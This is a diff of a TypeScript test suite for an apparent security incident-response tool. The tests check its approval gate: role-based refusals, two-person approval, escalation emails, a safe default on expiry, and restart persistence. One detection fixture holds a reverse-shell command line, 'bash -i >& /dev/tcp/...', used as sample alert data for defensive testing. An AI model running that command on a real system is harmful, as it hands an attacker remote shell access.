@@ -8,7 +8,7 @@ import { WorkflowUpdateFailedError, type Client } from '@temporalio/client';
 import { ApplicationFailure } from '@temporalio/common';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { approvalsQuery, resolveSignal } from '../src/contracts/approval.js';
-import type { IncidentStatus } from '../src/contracts/incident.js';
+import { statusQuery, type IncidentStatus } from '../src/contracts/incident.js';
 import { temporalStarter } from '../intake/incidents.js';
 import { decide, waitForApproval } from './helpers/approvals.js';
 import { normalized, reverseShell } from './helpers/events.js';
@@ -36,16 +36,25 @@ async function refusal(p: Promise<unknown>): Promise<string | undefined> {
     await p;
     return undefined;
   } catch (e) {
-    if (e instanceof WorkflowUpdateFailedError && e.cause instanceof ApplicationFailure) return e.cause.type ?? 'unknown';
+    if (e instanceof WorkflowUpdateFailedError && e.cause instanceof ApplicationFailure)
+      return e.cause.type ?? 'unknown';
     throw e;
   }
 }
 
-async function withIncident(extraEnv: Record<string, string>, event: ReturnType<typeof reverseShell>, fn: (id: string, queue: string) => Promise<void>) {
+async function withIncident(
+  extraEnv: Record<string, string>,
+  event: ReturnType<typeof reverseShell>,
+  fn: (id: string, queue: string) => Promise<void>,
+) {
   const queue = uniqueQueue('approval');
   let worker = await startWorker(workerEnv(smtp.port, queue, extraEnv));
   try {
-    await temporalStarter(client.connection, client.options.namespace, queue, 5000).start(event.incidentId, event.correlationKey, event.event);
+    await temporalStarter(client.connection, client.options.namespace, queue, 5000).start(
+      event.incidentId,
+      event.correlationKey,
+      event.event,
+    );
     await fn(event.incidentId, queue);
   } finally {
     await worker.stop();
@@ -59,12 +68,17 @@ describe('approval gate', () => {
       const r = await waitForApproval(client, id);
       expect(await refusal(decide(client, r, lead, 'approve', 'deadbeefdeadbeef'))).toBe('wrong-parameters');
       expect(await refusal(decide(client, r, { id: 'ana-1', role: 'analyst' }))).toBe('unauthorized');
-      expect(await refusal(decide(client, r, { id: 'playbook:suspicious-process', role: 'admin' }))).toBe('requester');
+      expect(await refusal(decide(client, r, { id: 'playbook:suspicious-process', role: 'admin' }))).toBe(
+        'requester',
+      );
       const receipt = await decide(client, r, lead);
       expect(receipt).toMatchObject({ status: 'approved', approvers: ['lead-1'], needed: 1 });
       expect(await refusal(decide(client, r, { id: 'lead-2', role: 'lead' }))).toBe('already-decided');
       const out = await result(id);
-      expect(out.actions.find((a) => a.action === 'isolate-host')).toMatchObject({ status: 'approved', detail: { approvers: ['lead-1'], params: { host: r.params.host } } });
+      expect(out.actions.find((a) => a.action === 'isolate-host')).toMatchObject({
+        status: 'approved',
+        detail: { approvers: ['lead-1'], params: { host: r.params.host } },
+      });
       // Refusals never reach history through the validator: nothing about them in the result.
       expect(out.timeline.filter((t) => /approved by/.test(t.summary))).toHaveLength(1);
     });
@@ -78,7 +92,12 @@ describe('approval gate', () => {
       severity: 'critical',
       techniques: ['T1078.002'],
       user: { name: 'svc-backup', domain: 'CORP' },
-      process: { pid: 4242, name: 'bash', commandLine: 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1', ancestors: [{ name: 'sshd' }] },
+      process: {
+        pid: 4242,
+        name: 'bash',
+        commandLine: 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1',
+        ancestors: [{ name: 'sshd' }],
+      },
     });
     await withIncident({}, ev, async (id) => {
       // The playbook asks in order: isolate-host first, then disable-account.
@@ -86,11 +105,18 @@ describe('approval gate', () => {
       expect(isolate.action).toBe('isolate-host');
       await decide(client, isolate, lead, 'deny');
       let critical = await waitForApproval(client, id);
-      for (let i = 0; i < 50 && critical.action !== 'disable-account'; i++) critical = await waitForApproval(client, id);
+      for (let i = 0; i < 50 && critical.action !== 'disable-account'; i++)
+        critical = await waitForApproval(client, id);
       expect(critical).toMatchObject({ action: 'disable-account', class: 'critical', needed: 2 });
-      expect(await decide(client, critical, lead)).toMatchObject({ status: 'pending', approvers: ['lead-1'] });
+      expect(await decide(client, critical, lead)).toMatchObject({
+        status: 'pending',
+        approvers: ['lead-1'],
+      });
       expect(await refusal(decide(client, critical, lead))).toBe('duplicate');
-      expect(await decide(client, critical, { id: 'admin-1', role: 'admin' })).toMatchObject({ status: 'approved', approvers: ['lead-1', 'admin-1'] });
+      expect(await decide(client, critical, { id: 'admin-1', role: 'admin' })).toMatchObject({
+        status: 'approved',
+        approvers: ['lead-1', 'admin-1'],
+      });
       const out = await result(id);
       expect(out.actions.map((a) => [a.action, a.status])).toEqual(
         expect.arrayContaining([
@@ -102,48 +128,80 @@ describe('approval gate', () => {
   });
 
   it('reminds, escalates, then applies the safe default and leaves the incident to a human', async () => {
-    await withIncident({ VIGIL_APPROVAL_REMIND_AFTER: '1s', VIGIL_APPROVAL_ESCALATE_AFTER: '2s', VIGIL_APPROVAL_DEADLINE: '3s', VIGIL_ESCALATION_TO: 'leads@test.local' }, reverseShell(host()), async (id) => {
-      const h = client.workflow.getHandle(id);
-      for (let i = 0; i < 100; i++) {
-        const s = (await h.query(statusQueryForTest())) as IncidentStatus;
-        if (s.stage === 'needs-human') break;
-        await new Promise((r) => setTimeout(r, 200));
-      }
-      const [approval] = await h.query(approvalsQuery);
-      expect(approval).toMatchObject({ status: 'expired', escalation: 2, decidedBy: { operator: 'safe-default' } });
-      const mine = smtp.messages.filter((m) => m.headers.get('x-vigil-incident') === id && m.headers.get('x-vigil-approval') === approval?.approvalId);
-      const stages = mine.map((m) => m.subject);
-      expect(stages.map((x) => x?.split(':')[0])).toEqual(['[Vigil] APPROVAL NEEDED', '[Vigil] REMINDER', '[Vigil] ESCALATED', '[Vigil] EXPIRED (denied by default)']);
-      const escalated = mine.find((m) => /ESCALATED/.test(m.subject ?? ''));
-      expect(JSON.stringify(escalated?.to)).toContain('leads@test.local');
-      // A late click is refused; the incident waits for a human to resolve it.
-      expect(approval && (await refusal(decide(client, approval, lead)))).toBe('already-decided');
-      await h.signal(resolveSignal, { operator: 'lead-1', note: 'host rebuilt by hand', at: new Date().toISOString() });
-      const out = await result(id);
-      expect(out.outcome).toContain('resolved by lead-1: host rebuilt by hand');
-      expect(out.actions.find((a) => a.action === 'isolate-host')?.status).toBe('expired');
-    });
+    await withIncident(
+      {
+        VIGIL_APPROVAL_REMIND_AFTER: '1s',
+        VIGIL_APPROVAL_ESCALATE_AFTER: '2s',
+        VIGIL_APPROVAL_DEADLINE: '3s',
+        VIGIL_ESCALATION_TO: 'leads@test.local',
+      },
+      reverseShell(host()),
+      async (id) => {
+        const h = client.workflow.getHandle(id);
+        for (let i = 0; i < 100; i++) {
+          const s = await h.query(statusQuery);
+          if (s.stage === 'needs-human') break;
+          await new Promise((r) => setTimeout(r, 200));
+        }
+        const [approval] = await h.query(approvalsQuery);
+        expect(approval).toMatchObject({
+          status: 'expired',
+          escalation: 2,
+          decidedBy: { operator: 'safe-default' },
+        });
+        const mine = smtp.messages.filter(
+          (m) =>
+            m.headers.get('x-vigil-incident') === id &&
+            m.headers.get('x-vigil-approval') === approval?.approvalId,
+        );
+        const stages = mine.map((m) => m.subject);
+        expect(stages.map((x) => x?.split(':')[0])).toEqual([
+          '[Vigil] APPROVAL NEEDED',
+          '[Vigil] REMINDER',
+          '[Vigil] ESCALATED',
+          '[Vigil] EXPIRED (denied by default)',
+        ]);
+        const escalated = mine.find((m) => /ESCALATED/.test(m.subject ?? ''));
+        expect(JSON.stringify(escalated?.to)).toContain('leads@test.local');
+        // A late click is refused; the incident waits for a human to resolve it.
+        expect(approval && (await refusal(decide(client, approval, lead)))).toBe('already-decided');
+        await h.signal(resolveSignal, {
+          operator: 'lead-1',
+          note: 'host rebuilt by hand',
+          at: new Date().toISOString(),
+        });
+        const out = await result(id);
+        expect(out.outcome).toContain('resolved by lead-1: host rebuilt by hand');
+        expect(out.actions.find((a) => a.action === 'isolate-host')?.status).toBe('expired');
+      },
+    );
   });
 
   it('keeps a pending approval across a worker restart', async () => {
     const queue = uniqueQueue('approval-restart');
-    const env = workerEnv(smtp.port, queue, { VIGIL_APPROVAL_DEADLINE: '5m', VIGIL_APPROVAL_ESCALATE_AFTER: '4m', VIGIL_APPROVAL_REMIND_AFTER: '3m' });
+    const env = workerEnv(smtp.port, queue, {
+      VIGIL_APPROVAL_DEADLINE: '5m',
+      VIGIL_APPROVAL_ESCALATE_AFTER: '4m',
+      VIGIL_APPROVAL_REMIND_AFTER: '3m',
+    });
     const e = reverseShell(host());
     let worker = await startWorker(env);
-    await temporalStarter(client.connection, client.options.namespace, queue, 5000).start(e.incidentId, e.correlationKey, e.event);
+    await temporalStarter(client.connection, client.options.namespace, queue, 5000).start(
+      e.incidentId,
+      e.correlationKey,
+      e.event,
+    );
     const r = await waitForApproval(client, e.incidentId);
     await worker.stop();
     worker = await startWorker(env);
     try {
       expect(await decide(client, r, lead)).toMatchObject({ status: 'approved' });
-      expect((await result(e.incidentId)).actions.find((a) => a.action === 'isolate-host')?.status).toBe('approved');
+      expect((await result(e.incidentId)).actions.find((a) => a.action === 'isolate-host')?.status).toBe(
+        'approved',
+      );
     } finally {
       await worker.stop();
     }
   });
 });
 
-import { statusQuery } from '../src/contracts/incident.js';
-function statusQueryForTest() {
-  return statusQuery;
-}
